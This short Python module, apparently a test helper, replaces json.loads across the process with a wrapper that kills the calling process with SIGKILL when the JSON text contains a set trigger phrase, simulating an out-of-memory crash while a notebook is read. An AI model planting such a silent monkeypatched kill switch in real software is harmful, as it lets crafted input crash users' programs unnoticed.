"""Makes a notebook with a certain word in it deadly: the process that reads it is killed, as by a lack of memory."""

import json
import os
import signal

loads = json.loads


def deadly(text, **how):
    """Read JSON, or die of it."""
    if isinstance(text, str) and "this kills who reads it" in text:
        os.kill(os.getpid(), signal.SIGKILL)
    return loads(text, **how)


json.loads = deadly
